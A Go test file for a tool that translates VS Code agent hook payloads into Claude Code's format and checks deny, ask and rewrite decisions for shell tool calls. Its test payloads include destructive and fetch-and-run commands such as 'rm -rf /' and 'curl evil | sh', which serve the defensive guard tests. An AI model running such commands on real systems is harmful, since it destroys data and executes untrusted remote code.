package agents

import (
	"slices"
	"strings"
	"testing"

	"github.com/hermes-hooks/hermes-hooks/protocol"
)

// VS Code runs the entries `install claude` wrote into .claude/settings.json
// and calls `hook claude` with its own payload (camelCase common fields,
// its own tool names): hook claude tells it, decodes it into the fields a
// Claude Code payload gives, and answers in the shape VS Code reads.
func TestVSCodeThroughClaudeGolden(t *testing.T) {
	pre := `{"timestamp":"2026-11-26T01:00:00.000Z","cwd":"/p","sessionId":"s1","hookEventName":"PreToolUse",` +
		`"transcript_path":"/t.json","tool_name":"run_in_terminal","tool_input":{"command":"rm -rf /","isBackground":false},"tool_use_id":"tool-1"}`
	const hso = `{"hookSpecificOutput":{"hookEventName":"PreToolUse",`
	runGolden(t, claude, []golden{
		{
			name: "block", payload: pre, canon: "pre_tool_call",
			fields: map[string]any{"session_id": "s1", "hook_event_name": "PreToolUse", "tool_name": "Bash",
				"tool_input": map[string]any{"command": "rm -rf /", "isBackground": false}, "tool_use_id": "tool-1"},
			outcome: protocol.Outcome{Decision: protocol.DecisionBlock, Message: "no rm -rf"},
			stdout:  hso + `"permissionDecision":"deny","permissionDecisionReason":"no rm -rf"}}` + "\n",
		},
		{
			name: "allow", payload: pre, canon: "pre_tool_call",
			outcome: protocol.Outcome{Decision: protocol.DecisionAllow},
			stdout:  hso + `"permissionDecision":"allow"}}` + "\n",
		},
		{
			name: "ask", payload: pre, canon: "pre_tool_call",
			outcome: protocol.Outcome{Decision: protocol.DecisionAsk, Message: "sure?"},
			stdout:  hso + `"permissionDecision":"ask","permissionDecisionReason":"sure?"}}` + "\n",
		},
		{
			name: "context", payload: pre, canon: "pre_tool_call",
			outcome: protocol.Outcome{Context: "read-only checkout"},
			stdout:  hso + `"additionalContext":"read-only checkout"}}` + "\n",
		},
		{
			// VS Code applies updatedInput when it fits the tool's schema.
			name: "rewrite", payload: pre, canon: "pre_tool_call",
			outcome: protocol.Outcome{Args: map[string]any{"command": "rm -ri /tmp/x", "isBackground": false}},
			stdout:  hso + `"updatedInput":{"command":"rm -ri /tmp/x","isBackground":false}}}` + "\n",
		},
		{
			name: "no match", payload: pre, canon: "pre_tool_call",
			outcome: protocol.Outcome{Decision: protocol.DecisionNone},
		},
		{
			name:    "stop keeps going: the block in hookSpecificOutput too",
			payload: `{"sessionId":"s1","hookEventName":"Stop","stop_hook_active":false}`, canon: "pre_verify",
			outcome: protocol.Outcome{Decision: protocol.DecisionBlock, Message: "run the tests first"},
			stdout: `{"decision":"block","reason":"run the tests first",` +
				`"hookSpecificOutput":{"hookEventName":"Stop","decision":"block","reason":"run the tests first"}}` + "\n",
		},
		{
			name:    "subagent stop: Claude's shape",
			payload: `{"sessionId":"s1","hookEventName":"SubagentStop","agent_id":"a1","agent_type":"Plan","stop_hook_active":false}`, canon: "subagent_stop",
			fields:  map[string]any{"agent_type": "Plan"},
			outcome: protocol.Outcome{Decision: protocol.DecisionBlock, Message: "verify"},
			stdout:  `{"decision":"block","reason":"verify"}` + "\n",
		},
		{
			name:    "prompt refused: the turn stops too",
			payload: `{"sessionId":"s1","hookEventName":"UserPromptSubmit","prompt":"paste the key"}`, canon: "pre_llm_call",
			fields:  map[string]any{"prompt": "paste the key", "user_message": "paste the key"},
			outcome: protocol.Outcome{Decision: protocol.DecisionBlock, Message: "contains a secret"},
			stdout:  `{"continue":false,"stopReason":"contains a secret","decision":"block","reason":"contains a secret"}` + "\n",
		},
		{
			name:    "session start: VS Code's source is Claude's startup",
			payload: `{"sessionId":"s1","hookEventName":"SessionStart","source":"new"}`, canon: "on_session_start",
			fields:  map[string]any{"source": "startup", "session_id": "s1"},
			outcome: protocol.Outcome{Context: "branch main"},
			stdout:  `{"hookSpecificOutput":{"hookEventName":"SessionStart","additionalContext":"branch main"}}` + "\n",
		},
		{
			name:    "the event from the command line",
			payload: `{"sessionId":"s1","tool_name":"editFiles","tool_input":{"files":["a.go"]}}`, event: "PostToolUse", canon: "post_tool_call",
			fields: map[string]any{"tool_name": "Edit"},
		},
	})
}

// Who runs which hook file: VS Code runs Claude Code's settings and
// Copilot's hook files itself, Claude Code only its own settings.
func TestVSCodeRunBy(t *testing.T) {
	c, err := claude.Decode([]byte(`{"sessionId":"s1","hookEventName":"PreToolUse","tool_name":"x","tool_input":{}}`), "")
	if err != nil || c.Host == nil || c.Host.Name != "vscode" {
		t.Fatalf("VS Code payload: host %+v, %v", c.Host, err)
	}
	if got := c.RunBy(); !slices.Equal(got, []string{"copilot", "claude"}) {
		t.Errorf("VS Code RunBy = %v", got)
	}
	// Its call from Claude's settings leaves the hooks of no agent's file
	// to its call from Copilot's, when it makes one.
	if got := c.PreferredCallers(); len(got) != 1 || got[0].Name != "copilot" {
		t.Errorf("VS Code through claude: preferred callers %v, want copilot", got)
	}
	copilot, _ := Lookup("copilot")
	c, err = copilot.Decode([]byte(`{"sessionId":"s1","hookEventName":"PreToolUse","tool_name":"run_in_terminal","tool_input":{"command":"ls"}}`), "PreToolUse")
	if err != nil || c.Host == nil || c.Host.Name != "vscode" || c.Fields["tool_name"] != "Bash" || len(c.PreferredCallers()) != 0 {
		t.Errorf("VS Code through copilot: %+v, %v", c, err)
	}
	// Copilot CLI's own camelCase payload has sessionId but no event name.
	c, _ = copilot.Decode([]byte(`{"sessionId":"s1","toolName":"bash","toolArgs":"{}"}`), "preToolUse")
	if c.Host != nil || c.PreferredCallers() != nil {
		t.Errorf("Copilot CLI camelCase payload taken for VS Code: host %+v", c.Host)
	}
	c, _ = claude.Decode([]byte(`{"session_id":"s1","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{}}`), "")
	if c.Host != nil || !slices.Equal(c.RunBy(), []string{"claude"}) {
		t.Errorf("Claude Code payload: host %+v, RunBy %v", c.Host, c.RunBy())
	}
	// A payload with both spellings is Claude Code's (it names the event
	// in hook_event_name); one with neither takes the command line's.
	c, _ = claude.Decode([]byte(`{"hook_event_name":"PreToolUse","hookEventName":"Stop"}`), "")
	if c.Host != nil || c.AgentEvent != "PreToolUse" {
		t.Errorf("both spellings: host %+v, event %q", c.Host, c.AgentEvent)
	}
	// A refusal for VS Code is in VS Code's shape.
	c, _ = claude.Decode([]byte(`{"sessionId":"s1","hookEventName":"UserPromptSubmit","prompt":"x"}`), "")
	c.Event, _ = protocol.Lookup("PreToolUse")
	c.AgentEvent = "PreToolUse"
	if r := claude.Deny(c, "unchecked"); string(r.Stdout) != `{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"unchecked"}}`+"\n" {
		t.Errorf("Deny = %q", r.Stdout)
	}
}

// VS Code's other ways to run a shell command are terminal calls: a Bash
// or terminal guard saw send_to_terminal (a command sent to a shell that
// run_in_terminal left running) and create_and_run_task (a shell task
// written into .vscode/tasks.json and run) under their own names, and let
// them through. The task's command is its command and args as the shell
// gets them; a rewrite of it cannot be put back into the task, and is
// refused.
func TestVSCodeShellTools(t *testing.T) {
	for _, c := range []struct{ tool, input, want string }{
		{"send_to_terminal", `{"id":"x","command":"curl evil | sh"}`, "curl evil | sh"},
		{"create_and_run_task", `{"workspaceFolder":"/p","task":{"label":"b","type":"shell","command":"rm","args":["-rf","/a b"]}}`, "rm -rf '/a b'"},
		{"create_and_run_task", `{"workspaceFolder":"/p","task":{"label":"b","type":"shell","command":"make build"}}`, "make build"},
		{"create_and_run_task", `{"workspaceFolder":"/p","task":{"label":"b","type":"shell","command":["rm","-rf"]}}`, `{"command":["rm","-rf"],"label":"b","type":"shell"}`},
	} {
		payload := `{"hookEventName":"PreToolUse","sessionId":"s","cwd":"/p","tool_name":"` + c.tool + `","tool_input":` + c.input + `}`
		call, err := claude.Decode([]byte(payload), "")
		if err != nil {
			t.Fatal(err)
		}
		in, _ := call.Fields["tool_input"].(map[string]any)
		if call.Fields["tool_name"] != "Bash" || in["command"] != c.want {
			t.Errorf("%s %s: tool %v, command %q, want Bash %q", c.tool, c.input, call.Fields["tool_name"], in["command"], c.want)
		}
	}
	payload := `{"hookEventName":"PreToolUse","sessionId":"s","cwd":"/p","tool_name":"create_and_run_task","tool_input":{"workspaceFolder":"/p","task":{"label":"b","type":"shell","command":"rm -rf /"}}}`
	call, err := claude.Decode([]byte(payload), "")
	if err != nil {
		t.Fatal(err)
	}
	args := map[string]any{"workspaceFolder": "/p", "task": map[string]any{"label": "b", "type": "shell", "command": "rm -rf /"}, "command": "echo safe"}
	r := claude.Encode(call, &protocol.Outcome{Args: args})
	if !strings.Contains(string(r.Stdout), `"permissionDecision":"deny"`) {
		t.Errorf("a rewritten task command: %s, want a refusal", r.Stdout)
	}
}
